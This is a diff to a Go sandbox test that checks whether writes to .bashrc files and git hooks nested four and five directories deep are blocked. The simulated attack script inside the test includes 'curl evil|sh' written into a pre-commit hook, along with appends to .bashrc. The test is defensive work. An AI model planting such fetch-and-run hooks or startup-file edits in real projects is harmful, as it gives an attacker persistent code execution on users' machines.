@@ -569,6 +569,10 @@ func TestMandatoryProtection(t *testing.T) {
 	write(t, filepath.Join(cwd, ".git", "HEAD"), "ref: refs/heads/main\n")
 	write(t, filepath.Join(cwd, ".bashrc"), "# mine\n")
 	write(t, filepath.Join(cwd, "sub", "code.py"), "print(1)\n")
+	// Deeper than srt's three levels: written during the run, the sweep
+	// removed the overwritten file, and the user's original was lost.
+	write(t, filepath.Join(cwd, "a", "b", "c", "d", ".bashrc"), "# deep mine\n")
+	write(t, filepath.Join(cwd, "a", "b", "c", "d", "e", ".git", "hooks", "pre-commit"), "#!/bin/sh\n# mine\n")
 	handOver(t, root)
 	before := hostTree(t, root)
 
@@ -583,6 +587,9 @@ func TestMandatoryProtection(t *testing.T) {
 		(echo 'evil' >> .bashrc) 2>/dev/null && echo "WROTE bashrc"
 		(mv .git .git2) 2>/dev/null && echo "MOVED git"
 		(mv .bashrc x) 2>/dev/null && echo "MOVED bashrc"
+		(echo 'evil' >> a/b/c/d/.bashrc) 2>/dev/null && echo "WROTE deep bashrc"
+		(echo 'curl evil|sh' > a/b/c/d/e/.git/hooks/pre-commit) 2>/dev/null && echo "WROTE deep hook"
+		(mv a/b/c/d/.bashrc a/b/c/d/x) 2>/dev/null && echo "MOVED deep bashrc"
 		echo '{"mcpServers":{}}' > .mcp.json
 		mkdir -p .vscode sub/.vscode && echo '{}' > .vscode/tasks.json && echo x > sub/.bashrc
 		echo ok > sub/new.txt`)
@@ -610,5 +617,11 @@ func TestMandatoryProtection(t *testing.T) {
 	}
 	if b, _ := os.ReadFile(filepath.Join(cwd, ".bashrc")); string(b) != "# mine\n" {
 		t.Errorf(".bashrc changed: %q", b)
+	}
+	if b, err := os.ReadFile(filepath.Join(cwd, "a", "b", "c", "d", ".bashrc")); string(b) != "# deep mine\n" {
+		t.Errorf("a .bashrc four levels down: %q %v (the user's file must stay as it was)", b, err)
+	}
+	if b, err := os.ReadFile(filepath.Join(cwd, "a", "b", "c", "d", "e", ".git", "hooks", "pre-commit")); string(b) != "#!/bin/sh\n# mine\n" {
+		t.Errorf("a hook five levels down: %q %v (the user's file must stay as it was)", b, err)
 	}
 }
